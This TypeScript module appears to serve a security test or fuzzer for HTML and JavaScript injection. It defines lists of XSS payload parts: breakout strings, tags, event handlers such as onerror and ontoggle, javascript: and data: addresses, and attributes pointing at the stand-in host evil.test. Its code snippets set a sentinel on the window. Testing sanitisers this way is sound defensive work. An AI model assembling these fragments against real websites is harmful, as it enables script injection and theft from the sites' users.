/** Payload parts: the words that markup payloads are put together from. */

type Words = readonly [string, ...string[]]

/** The words of a text, which are separated by spaces and line breaks. */
export const wordsOf = (text: string): string[] => text.trim().split(/\s+/)

/** The parts of a text, which are separated by bars. */
const partsOf = (text: string): string[] => text.split('|').map((part) => part.trim())

/** What runs leaves this mark on the window. */
const SENTINEL = '__executed'

export const CODE: Words = [
  `window.${SENTINEL}=1`,
  `top.${SENTINEL}=1`,
  `self['__exec'+'uted']=1`,
  `(_=>window.${SENTINEL}=1)()`,
  `setTimeout('window.${SENTINEL}=1')`,
  `import('data:text/javascript,window.${SENTINEL}=1')`,
  'alert(1)',
]

const ENDS_OF_TEXTS = ['`', '\\', '\\"', "\\'", '</script >', '\\u003c/script>', '<?xml ', '${']
const INVISIBLE = ['\u2028', '\u2029', '\0', '\r\n', '\r\n\r\n', '\u202e', '\u2066', '\ufeff']

/** Ends what the text may stand in: attributes, elements, comments, JSON, strings, templates, headers. */
export const BREAKS: Words = [
  '',
  '',
  ...ENDS_OF_TEXTS,
  ...INVISIBLE,
  ...wordsOf(`
  " ' > "> '> /> --> --!> ]]> */ </title> </style> </script> </SCRIPT/x> </textarea> </noscript> </template>
  </p></div> </dl> </form> </svg> </select> </iframe> </address> </main> "} "}} "]} "}</script> <!--
  <!--<script> <![CDATA[ {{ %> #{ '; ");
`),
]

export const TAGS: Words = [
  'img',
  'img\0',
  ...wordsOf(`
  svg iframe video audio details a input body div object embed math style link base meta form button template
  textarea x-y IMG sVg svg/
`),
]

export const HANDLERS: Words = [
  'onerror',
  ...wordsOf(`
  onload onfocus ontoggle onmouseover onclick onanimationstart onbegin onpageshow ONERROR onwheel
  oncontentvisibilityautostatechange onbeforematch onsecuritypolicyviolation
`),
]

export const ATTRIBUTES: Words = [
  'src=x',
  ...partsOf(`
  href=x | autofocus tabindex=1 | open | style=animation:x | src=//evil.test/x | id=page | class=x | srcdoc=x |
  http-equiv=refresh content=0;url=//evil.test | rel=stylesheet href=//evil.test | nonce=x |
`),
]

export const ADDRESSES: Words = [
  'java\tscript:',
  '\x01javascript:',
  'https://a.example\\@evil.test/',
  ...wordsOf(`
  javascript: JaVaScRiPt: javascript://%0a vbscript: data:text/html, data:image/svg+xml,
  https://a.example/"onmouseover=" https://a.example/'> https://a.example/#<script> //evil.test/
  https:javascript: blob:x https://a.example/</script>
`),
]

/** Elements that run their handler by themselves, as soon as they are in a page. */
export const SELF_STARTING: Words = [
  'img src=x onerror',
  ...partsOf(`
  svg onload | svg/onload | details open ontoggle | input autofocus onfocus | body onpageshow | video src=x onerror |
  audio src=x onerror | style onload | iframe onload | object data=x onerror | IMG SRC=x OnErRoR
`),
]

export const QUOTES: Words = ['', '"', "'", '`']
